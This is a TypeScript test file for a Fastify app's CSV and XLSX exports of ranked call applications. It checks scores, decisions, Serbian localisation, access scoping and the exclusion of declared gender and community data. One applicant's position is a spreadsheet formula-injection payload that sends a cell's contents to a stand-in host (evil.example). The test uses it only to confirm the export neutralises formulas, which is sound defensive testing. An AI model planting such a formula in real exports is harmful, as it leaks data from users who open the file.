import type { FastifyInstance } from 'fastify'
import { describe, expect } from 'vitest'
import { it } from '../testing/app.ts'
import { csvRows, download, expectExportScoped, xlsxSheet } from '../testing/exports.ts'
import { type CallFixture, moveDeadline, openCall } from '../testing/applications.ts'
import { bearer, createUser, type TestUser, tokenFor } from '../testing/factories.ts'

const header = [
  'Rank',
  'Name',
  'Municipality',
  'Country',
  'Position',
  'Eligible',
  'Score',
  'Points 1: choice',
  'Points 2: position',
  'Decision',
]
const hyperlink = '=HYPERLINK("https://evil.example/?d="&B2,"Detalji")'

interface World extends CallFixture {
  trainer: TestUser
  otherCoordinator: TestUser
  learner: TestUser
}
let world: World | undefined

const as = (app: FastifyInstance, user: TestUser) => bearer(tokenFor(app, user))

/**
 * A person call with two score criteria: Đurđa (Čačak, much experience, a mayor) ranks first and
 * is accepted; a candidate whose position is a formula ranks second and is wait-listed; Šandor
 * (Subotica, no supervisor's consent) is not eligible. Each declared a gender and a community.
 */
async function setUp(app: FastifyInstance): Promise<World> {
  if (world) return world
  const fixture = await openCall(app, {
    places: 1,
    criteria: {
      eligibility: [{ kind: 'yes', question: 'supervisor' }],
      scores: [
        { kind: 'choice', question: 'experience', points: { none: 0, some: 2, much: 5 } },
        { kind: 'position', points: { officer: 1, mayor: 3 } },
      ],
      balance: [],
    },
  })
  const { callId, coordinator, clusterId } = fixture
  const apply = async (
    name: string,
    place: string,
    answers: Record<string, unknown>,
    position: string,
  ) => {
    const user = await createUser(app, { name, municipality: { country: 'RS', name: place } })
    const response = await app.inject({
      method: 'POST',
      url: `/api/v1/calls/${callId}/application/submission`,
      headers: as(app, user),
      payload: {
        answers: { motivation: 'Da služim svima.', ...answers },
        candidates: [
          { position, languages: ['sr'], declared: { gender: 'woman', community: 'roma' } },
        ],
      },
    })
    expect(response.statusCode, response.body).toBe(200)
    return { user, candidateId: response.json().candidates[0].id as string }
  }
  const first = await apply(
    'Đurđa Šćepanović',
    'Čačak',
    { experience: 'much', supervisor: true },
    'mayor',
  )
  const second = await apply(
    'Ana Formula',
    'Niš',
    { experience: 'some', supervisor: true },
    hyperlink,
  )
  await apply('Šandor Kiš', 'Subotica', { experience: 'much', supervisor: false }, 'officer')
  await moveDeadline(app, callId, new Date(Date.now() - 60_000))
  const decided = await app.inject({
    method: 'POST',
    url: `/api/v1/calls/${callId}/decisions`,
    headers: as(app, coordinator),
    payload: {
      decisions: [
        { candidateId: first.candidateId, decision: 'accepted' },
        { candidateId: second.candidateId, decision: 'wait-listed', reason: 'Mesta su popunjena.' },
      ],
    },
  })
  expect(decided.statusCode, decided.body).toBe(200)
  const trainer = await createUser(app, { roles: ['trainer'], association: 'skgo' })
  await app.db.insertInto('clusterTrainers').values({ clusterId, userId: trainer.id }).execute()
  world = {
    ...fixture,
    trainer,
    otherCoordinator: await createUser(app, { roles: ['coordinator'], association: 'zels' }),
    learner: second.user,
  }
  return world
}

const expected = [
  [1, 'Đurđa Šćepanović', 'Čačak', 'RS', 'mayor', 'yes', 8, 5, 3, 'accepted'],
  [2, 'Ana Formula', 'Niš', 'RS', `'${hyperlink}`, 'yes', 2, 2, 0, 'wait-listed'],
  [null, 'Šandor Kiš', 'Subotica', 'RS', 'officer', 'no', 6, 5, 1, 'pending'],
]

// The first test also builds the file's app and the world it reads, on a machine shared with
// other test files.
describe('applications export', { timeout: 90_000 }, () => {
  it('CSV: candidates ranked with score and points per criterion, decisions; formulas neutralised, never declared answers', async ({
    app,
  }) => {
    const w = await setUp(app)
    const response = await download(
      app,
      w.coordinator,
      `/api/v1/calls/${w.callId}/exports/applications.csv`,
    )
    const rows = csvRows(response, 'applications-Human-rights-in-local-services.csv')
    expect(rows[0]).toEqual(header)
    expect(rows.slice(1)).toEqual(
      expected.map((row) => row.map((cell) => (cell === null ? '' : String(cell)))),
    )
    // The coordinator asking may see declared answers in the ranking; the file never has them.
    expect(response.rawPayload.toString('utf8')).not.toMatch(/\bwoman\b|\broma\b/i)
  })

  it('XLSX: the same rows, numbers as numbers, read by another library; no formula', async ({
    app,
  }) => {
    const w = await setUp(app)
    const sheet = await xlsxSheet(
      await download(app, w.trainer, `/api/v1/calls/${w.callId}/exports/applications.xlsx`),
      'applications-Human-rights-in-local-services.xlsx',
    )
    expect(sheet.name).toBe('Applications')
    expect(sheet.rows).toEqual([header, ...expected])
    expect(sheet.xml).toContain('Đurđa Šćepanović')
    expect(sheet.xml).not.toMatch(/\bwoman\b|\broma\b/i)
  })

  it('in Serbian with ?lang=sr-Latn: headers, eligibility and decisions', async ({ app }) => {
    const w = await setUp(app)
    const rows = csvRows(
      await download(
        app,
        w.coordinator,
        `/api/v1/calls/${w.callId}/exports/applications.csv?lang=sr-Latn`,
      ),
    )
    expect(rows[0]).toEqual([
      'Rang',
      'Ime i prezime',
      'Opština',
      'Država',
      'Radno mesto',
      'Ispunjava uslove',
      'Bodovi ukupno',
      'Bodovi 1: choice',
      'Bodovi 2: position',
      'Odluka',
    ])
    expect(rows.slice(1).map((row) => [row[1], row[5], row[9]])).toEqual([
      ['Đurđa Šćepanović', 'da', 'prihvaćeno'],
      ['Ana Formula', 'da', 'na listi čekanja'],
      ['Šandor Kiš', 'ne', 'bez odluke'],
    ])
  })

  it("another association's coordinator finds no call; applicants are refused", async ({ app }) => {
    const w = await setUp(app)
    await expectExportScoped(app, `/api/v1/calls/${w.callId}/exports/applications`, {
      otherCoordinator: w.otherCoordinator,
      refused: w.learner,
    })
  })
})
